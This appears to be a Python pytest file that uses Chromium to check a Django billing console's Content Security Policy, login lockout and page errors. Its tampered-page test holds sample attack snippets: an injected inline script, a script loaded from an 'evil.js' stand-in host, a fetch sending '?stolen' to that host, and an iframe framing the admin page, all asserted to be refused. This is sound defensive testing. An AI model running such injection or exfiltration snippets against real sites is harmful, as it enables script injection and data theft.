"""The content policies in Chromium: what an operator does breaks none, and what a page must not do
is stopped.
"""

import re
from contextlib import suppress
from typing import Any

import pytest
from django.urls import reverse

from neruba.models import Customer, Project
from tests.isolation.walk import CONSOLE, addresses, filled, values_for
from tests.support.console import PASSWORD, invoice_row, superuser, world
from tests.support.test_browser import CHROMIUM, chromium

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.once,
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"there is no Chromium at {CHROMIUM}"),
]

ADD_INLINE_SCRIPT = """() => {
    const script = document.createElement("script");
    script.text = "window.stolen = true";
    document.head.appendChild(script);
    return Boolean(window.stolen);
}"""
ADD_FOREIGN_SCRIPT = """() => new Promise(done => {
    const script = document.createElement("script");
    script.src = "http://127.0.0.1:1/evil.js";
    script.onerror = () => done("refused");
    document.head.appendChild(script);
})"""
SEND_ELSEWHERE = """() => fetch("http://127.0.0.1:1/?stolen").then(() => "sent", () => "refused")"""
FRAME = """address => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.src = address;
    frame.onload = () => done(frame.contentDocument ? "shown" : "refused");
    document.body.appendChild(frame);
})"""


def test_an_operators_day_breaks_no_policy(live_server: Any) -> None:
    sandbox = world()
    superuser(PASSWORD)
    row = invoice_row(next(one for one in sandbox.invoices() if one["number"])["id"])
    customer = Customer.objects.get(external_id="acme")
    lists = ["billing_invoice", "ingest_usageevent", "neruba_auditrecord"]
    with chromium(live_server.url) as watched:
        page = watched.page
        watched.log_in()
        watched.visit(reverse("admin:index"))
        page.wait_for_selector("text=Owed to us")
        for name in lists:
            watched.visit(reverse(f"admin:{name}_changelist"))
            page.click("span:text-is('filter_list')")
            page.wait_for_selector("text=Apply Filters")
            page.click("text=Apply Filters")
            page.wait_for_load_state("networkidle")
        watched.visit(reverse("admin:neruba_customer_change", args=[customer.pk]))
        page.click("text=Change details")
        page.fill("#dialog input[name=name]", "Acme Ltd")
        page.fill("#dialog textarea[name=reason]", "their letter")
        page.click("#dialog button[type=submit]")
        page.wait_for_selector("text=Acme Ltd was changed.")
        watched.visit(reverse("admin:billing_invoice_change", args=[row.pk]))
        watched.visit(reverse("admin:billing_invoice_print", args=[row.pk]))
        page.evaluate("() => { window.print = () => { window.printed = true; } }")
        page.click("#print")
        printed = page.evaluate("() => window.printed")
        watched.visit(reverse("docs"))
        page.wait_for_selector("#swagger-ui .opblock-tag, #swagger-ui .opblock")
        page.click("#swagger-ui .opblock >> nth=0")
        page.wait_for_selector("#swagger-ui .opblock.is-open")
        watched.visit(reverse("admin:password_change"))
        errors, foreign = list(watched.errors), list(watched.foreign)
        missing = watched.visit("/nothing")
        styled = page.evaluate("() => getComputedStyle(document.body).display")
    assert printed is True
    assert (errors, foreign) == ([], [])
    assert "There is nothing here" in missing
    assert styled == "grid"
    # Chromium says of the page itself that it was a 404; nothing else is wrong with it.
    assert [error for error in watched.errors if not re.search(r"\b404\b", error)] == []


def paths_of_pages(project: Project) -> list[str]:
    """Every address of the console and the pages beside it, pointed at the project's rows."""
    beside = {"docs": reverse("docs"), "invite": reverse("invite", args=["nri_nothing"])}
    console = [one for one in addresses() if one.route.startswith(CONSOLE)]
    pointed = [(page, values_for(page, project)) for page in console]
    return [
        *(filled(page, values) for page, values in pointed if values is not None),
        *beside.values(),
    ]


def test_no_page_that_is_registered_breaks_its_policy(live_server: Any) -> None:
    sandbox = world()
    superuser(PASSWORD)
    paths = [path for path in paths_of_pages(sandbox.project) if path != reverse("admin:logout")]
    assert len(paths) > 150
    broken: dict[str, list[str]] = {}
    with chromium(live_server.url) as watched:
        watched.log_in()
        for path in paths:
            before = len(watched.errors)
            with suppress(Exception):  # a download is no page
                watched.page.goto(live_server.url + path, wait_until="load")
            said = [
                one
                for one in watched.errors[before:]
                if not re.search(r"^\d{3} |\bstatus of \d{3}\b", one)
            ]
            if said:
                broken[path] = said
        foreign = list(watched.foreign)
    assert (broken, foreign) == ({}, [])


def test_a_page_that_was_tampered_with_can_do_no_harm(live_server: Any) -> None:
    superuser(PASSWORD)
    with chromium(live_server.url) as watched:
        watched.log_in()
        page = watched.page
        ran = page.evaluate(ADD_INLINE_SCRIPT)
        did = [page.evaluate(script) for script in (ADD_FOREIGN_SCRIPT, SEND_ELSEWHERE)]
        framed = page.evaluate(FRAME, "/admin/")
    assert (ran, did, framed) == (False, ["refused", "refused"], "refused")
    broken = [error for error in watched.errors if "Content Security Policy" in error]
    directives = ("script-src", "connect-src", "frame")
    assert [any(name in error for error in broken) for name in directives] == [True] * 3


def test_who_is_locked_out_is_told_in_a_page_of_the_console(live_server: Any) -> None:
    superuser(PASSWORD)
    with chromium(live_server.url) as watched:
        for _ in range(5):
            watched.visit(reverse("admin:login"))
            watched.page.fill("#id_username", "root@example.com")
            watched.page.fill("#id_password", "wrong")
            watched.page.click("button[type=submit]")
            watched.page.wait_for_load_state("networkidle")
        text = watched.page.inner_text("body")
    assert "Try again in 15 minutes." in text
    assert watched.foreign == []
    assert [error for error in watched.errors if not re.search(r"\b429\b", error)] == []
